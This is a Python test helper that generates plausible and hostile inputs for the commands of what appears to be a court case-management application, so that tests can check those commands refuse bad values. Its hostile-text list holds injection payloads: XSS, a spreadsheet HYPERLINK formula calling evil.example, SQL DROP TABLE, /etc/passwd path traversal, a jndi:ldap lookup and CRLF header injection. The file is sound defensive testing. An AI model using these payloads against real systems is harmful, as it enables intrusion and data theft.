"""What could be handed to a command: something plausible, and much that should not be, by the type it asks for.

A type that is not known here fails the test: whoever adds a command with it says what would be hostile.
"""

import dataclasses
import types
from collections.abc import Callable, Collection, Iterable, Iterator, Mapping, Sequence
from datetime import date, time
from enum import Enum
from functools import cache
from pathlib import Path
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints
from uuid import UUID, uuid4

from pydantic import BaseModel

from models.commands.forms import Form
from tests.builders import TODAY

MARK = "Zq7Wx"
"""Stands in every hostile text: nothing that holds it may come back in a refusal or reach the audit."""

TEXTS = (
    "",
    "   ",
    MARK * 3_000,
    f"{MARK}\x00{MARK}",
    f"{MARK}\ud800",
    f"{MARK}\u202e{MARK}\u200b\ufeff",
    f"<script>alert('{MARK}')</script>",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"'; DROP TABLE cases; -- {MARK}",
    f"../../etc/passwd%00{MARK}",
    f"{{{{{MARK}}}}} ${{jndi:ldap://{MARK}}} %s%n {{0}}",
    f"{MARK}\r\nSet-Cookie: sid={MARK}",
    f"{'🧑‍⚖️' * 60}{MARK}{'́' * 200}",
)
_MORE_OF_THE_SAME = TEXTS[8:]
NUMBERS = (-1, 0, 10**6, 2**31, 2**63, 10**30)
DAYS = (date.min, date(1900, 1, 1), date(2400, 2, 29), date.max)
TIMES = (time.min, time.max)
NIL = UUID(int=0)

#: What an honest person fills in though the form could do without: one of several is needed.
ALSO: Mapping[str, tuple[str, ...]] = {"NewCharge": ("description",), "IntakeForm": ("person",)}

Make = Callable[[str], UUID]
"""Finds the id that a parameter of this name asks for."""


@dataclasses.dataclass(frozen=True)
class Values:
    """Values for parameters; `known` gives an id of the court by the parameter's name, `foreign` another court's."""

    known: Make
    foreign: Make

    def plausible(self, asked: Any, name: str) -> Any:
        """Return what an honest person would hand over."""
        asked, origin, inner = _plain(asked)
        if asked in _SIMPLE:
            return _SIMPLE[asked](name)
        if asked is UUID:
            return uuid4() if name == "token" else self.known(name)
        if _is_optional(asked):
            return None
        if origin is tuple and inner and inner[-1] is not ...:
            return tuple(self.plausible(one, name) for one in inner)
        if origin in _MANY:
            return _MANY[origin]([self.plausible(inner[0], _singular(name))])
        if origin in (Mapping, dict):
            return {self.plausible(inner[0], name): self.plausible(inner[1], name)}
        if origin is Literal:
            return inner[0]
        if isinstance(asked, type) and issubclass(asked, Enum):
            return next(iter(asked))
        return self._formed(asked, {})

    def hostile(self, asked: Any, name: str) -> Iterator[Any]:
        """Yield what somebody might hand over instead; a call with it must be refused or do no harm."""
        asked, origin, inner = _plain(asked)
        if asked in _SIMPLE:
            yield from _HOSTILE[asked]
        elif asked is UUID:
            yield from (NIL, uuid4(), *([] if name == "token" else [self.foreign(name)]))
        elif _is_optional(asked):
            yield from self.hostile(_given(asked), name)
        elif origin is tuple or origin in _MANY or origin in (Mapping, dict):
            yield from self._holding(origin, inner, name)
        elif isinstance(asked, type) and issubclass(asked, Enum):
            yield from asked
        elif origin is not Literal:
            yield from self._badly_formed(asked)

    def _holding(self, origin: Any, inner: tuple[Any, ...], name: str) -> Iterator[Any]:
        """Yield pairs, lists and tables that hold something hostile, or nothing, or far too much."""
        if origin is tuple and inner[-1] is not ...:
            first = [self.plausible(one, name) for one in inner]
            for at, one in enumerate(inner):
                yield from ((*first[:at], bad, *first[at + 1 :]) for bad in self.hostile(one, name))
        elif origin in (Mapping, dict):
            yield {}
            yield from ({self.plausible(inner[0], name): bad} for bad in self.hostile(inner[1], name))
        else:
            many, one = _MANY[origin], _singular(name)
            good = self.plausible(inner[0], one)
            yield from (many([]), many([good] * 300))
            yield from (many([good, bad]) for bad in self.hostile(inner[0], one))

    def _formed(self, asked: type, changed: Mapping[str, Any]) -> Any:
        """Return a form or a record with one field or none changed, as a screen makes it."""
        also = ALSO.get(asked.__name__, ())
        values = {
            name: self.plausible(_given(kind), name)
            for name, (kind, needed) in _fields(asked).items()
            if (needed or name in also) and name not in changed
        } | dict(changed)
        return asked.read(**values) if issubclass(asked, Form) else asked(**values)

    def _badly_formed(self, asked: type) -> Iterator[Any]:
        """Yield makers of forms in which one field is hostile; making one may itself refuse."""
        for name, (kind, _) in _fields(asked).items():
            for bad in self.hostile(kind, name):
                if not (isinstance(bad, str) and bad in _MORE_OF_THE_SAME):  # one reader reads every form's fields
                    yield Late(self, asked, name, bad)


@dataclasses.dataclass(frozen=True)
class Late:
    """A form that is made when the command is called, for making it may refuse."""

    values: Values
    asked: type
    name: str
    bad: Any

    def made(self) -> Any:
        """Return the form; what is inside is made first."""
        return self.values._formed(self.asked, {self.name: made(self.bad)})


def made(value: Any) -> Any:
    """Return a value with every form in it made."""
    if isinstance(value, Late):
        return value.made()
    if isinstance(value, tuple | list | set | frozenset):
        return type(value)(made(one) for one in value)
    return value


_SIMPLE: dict[Any, Callable[[str], Any]] = {
    str: lambda name: f"plain words of {name}",
    int: lambda _: 5,
    bool: lambda _: True,
    date: lambda _: TODAY,
    time: lambda _: time(9, 30),
    Path: lambda _: Path("no-such-file.csv"),
}
_HOSTILE: dict[Any, Iterable[Any]] = {
    str: TEXTS,
    int: NUMBERS,
    bool: (True, False),
    date: DAYS,
    time: TIMES,
    Path: (Path("/etc/passwd"), Path("/dev/null"), Path("/"), Path("../" * 40), Path(f"{MARK}.xlsx")),
}
_MANY: dict[Any, Callable[[list[Any]], Any]] = {
    tuple: tuple,
    list: list,
    set: set,
    frozenset: frozenset,
    Sequence: tuple,
    Collection: tuple,
    Iterable: tuple,
}


def _plain(asked: Any) -> tuple[Any, Any, tuple[Any, ...]]:
    return asked, get_origin(asked), get_args(asked)


def _is_optional(asked: Any) -> bool:
    return get_origin(asked) in (Union, types.UnionType) and type(None) in get_args(asked)


def _given(kind: Any) -> Any:
    """Return the type of a value that is there, of one that may be missing."""
    return next(one for one in get_args(kind) if one is not type(None)) if _is_optional(kind) else kind


def _singular(name: str) -> str:
    return {"plan": "appearance_id", "agreed": "channel_id", "named": "user_id"}.get(name, name.removesuffix("s"))


@cache
def _fields(asked: type) -> dict[str, tuple[Any, bool]]:
    """Return (type, whether it is needed) of each field; TypeError for a type that nobody taught this file."""
    if dataclasses.is_dataclass(asked):
        hints = get_type_hints(asked)
        needed = (dataclasses.MISSING, dataclasses.MISSING)
        return {
            one.name: (hints[one.name], (one.default, one.default_factory) == needed)
            for one in dataclasses.fields(asked)
            if one.init
        }
    if issubclass(asked, BaseModel):
        hints = get_type_hints(asked)
        return {name: (hints[name], field.is_required()) for name, field in asked.model_fields.items()}
    raise TypeError(f"tests/hostile/values.py does not know what is hostile about {asked}")
